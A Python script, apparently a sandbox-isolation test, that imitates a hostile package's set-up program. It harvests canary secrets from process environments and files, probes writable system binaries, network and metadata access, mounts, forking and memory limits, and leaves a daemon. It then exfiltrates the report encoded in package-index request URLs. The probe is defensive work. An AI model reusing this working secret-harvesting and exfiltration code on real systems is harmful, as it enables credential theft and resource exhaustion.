# What the set-up program of a hostile package tries while an environment is built. What it finds goes out
# by the one way that there is: names of projects that the package index is asked for.
import ctypes, json, os, re, signal, socket, sys, urllib.request

PATTERN = re.compile(rb"sesame-[0-9a-f]+|c2VzYW1l[0-9A-Za-z+/=]*")
HOST, PORT = "@HOST@", int("@PORT@")


def read(path, limit=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


def secrets_of_processes():
    found = set()
    for name in os.listdir("/proc"):
        if name.isdigit():
            for part in "environ", "cmdline":
                found.update(PATTERN.findall(read("/proc/%s/%s" % (name, part))))
    return sorted(each.decode() for each in found)


def secrets_of_files():
    found = set()
    for place, folders, names in os.walk("/"):
        if place in ("/proc", "/sys", "/usr/share", "/usr/lib"):
            folders[:] = []
            continue
        for name in names:
            path = os.path.join(place, name)
            if os.path.isfile(path) and PATTERN.search(read(path)):
                if read(path).find(b"PATTERN = re.compile") < 0:
                    found.add(path)
    return sorted(found)


def replaced_programs():
    """Programs that others run, that it could write or put something in the place of."""
    done = []
    candidates = ["/usr/bin/python3", os.path.realpath(sys.executable), "/usr/bin/git", "/bin/sh"]
    for place, folders, names in os.walk("/"):
        if place in ("/proc", "/sys"):
            folders[:] = []
        cached = place.startswith("/var/cache/swt-bench")
        candidates += [os.path.join(place, name) for name in names if name == "uv" or cached]
    for path in candidates:
        if not os.path.isfile(path) or path.startswith((os.getcwd(), "/swt-build")):
            continue
        try:
            with open(path, "r+b"):
                done.append("wrote " + path)
        except OSError:
            pass
        if os.access(os.path.dirname(path), os.W_OK):
            done.append("may replace " + path)
    return done


def connected():
    done = []
    for host, port in ((HOST, PORT), ("1.1.1.1", 443), ("169.254.169.254", 80)):
        try:
            socket.create_connection((host, port), 3).close()
            done.append("%s:%d" % (host, port))
        except OSError:
            pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        done.append("raw socket")
    except OSError:
        pass
    return done


def mounted():
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        done.append("mount")
    if libc.unshare(0x10000000) == 0:
        done.append("user namespace")
    try:
        os.mknod("/tmp/device", 0o60666, os.makedev(8, 0))
        done.append("device")
    except OSError:
        pass
    return done


def killed_others():
    done = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
            status = dict(
                line.split(":", 1) for line in read("/proc/%s/status" % name).decode().splitlines() if ":" in line
            )
            if status.get("Uid", "").split()[:1] == ["0"]:
                try:
                    os.kill(int(name), 0)
                    done.append(status["Name"].strip())
                except OSError:
                    pass
    return done


def forked():
    children = []
    try:
        for _ in range(500):
            pid = os.fork()
            if pid == 0:
                signal.pause()
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(children)


def took_memory():
    """Whether a process could have twice what there is for all."""
    pid = os.fork()
    if pid == 0:
        pieces = []
        for _ in range(3072):
            pieces.append(bytearray(os.urandom(1)) * (1 << 20))
        os._exit(0)
    return os.waitpid(pid, 0)[1] == 0


def leave_daemon():
    """A process that outlives the command, as far as anything can."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for end in 0, 1, 2:
                os.dup2(os.open(os.devnull, os.O_RDWR), end)
            for number in range(3, 256):
                try:
                    os.close(number)
                except OSError:
                    pass
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", "swt-daemon"])
        os._exit(0)


def daemons():
    names = [name for name in os.listdir("/proc") if name.isdigit()]
    return len([name for name in names if b"swt-daemon" in read("/proc/%s/cmdline" % name)])


def status():
    lines = dict(line.split(":", 1) for line in read("/proc/self/status").decode().splitlines() if ":" in line)
    return {key: lines[key].strip() for key in ("CapEff", "CapPrm", "NoNewPrivs")}


def attack():
    return {
        "step": os.environ.get("SWT_STEP", os.getcwd()),
        "user": os.getuid(),
        "daemons": daemons(),
        "status": status(),
        "processes": secrets_of_processes(),
        "files": secrets_of_files(),
        "programs": replaced_programs(),
        "connected": connected(),
        "interfaces": sorted(os.listdir("/sys/class/net")),
        "mounted": mounted(),
        "mounts": sorted(
            line.split()[1]
            for line in read("/proc/mounts").decode().splitlines()
            if line.split()[2] in ("ext4", "xfs", "btrfs", "nfs")
        ),
        "killed": killed_others(),
        "forked": forked(),
        "memory": took_memory(),
    }


def tell(report):
    index = os.environ.get("PIP_INDEX_URL")
    if index is None:
        return
    opener = urllib.request.build_opener()
    text = json.dumps(report).encode("ascii").hex()
    number = os.urandom(4).hex()
    for at in range(0, len(text), 160):
        url = "%sleak-%s-%d-%s/" % (index, number, at // 160, text[at:at + 160])
        try:
            opener.open(url, timeout=20).close()
        except OSError:
            pass


# Once in each container: a set-up program runs several times.
if not os.path.exists("/tmp/attacked-@NAME@"):
    open("/tmp/attacked-@NAME@", "w").close()
    result = attack()
    tell(result)
    leave_daemon()
    try:
        with open("attack.json", "w") as file:
            json.dump(result, file)
    except OSError:
        pass
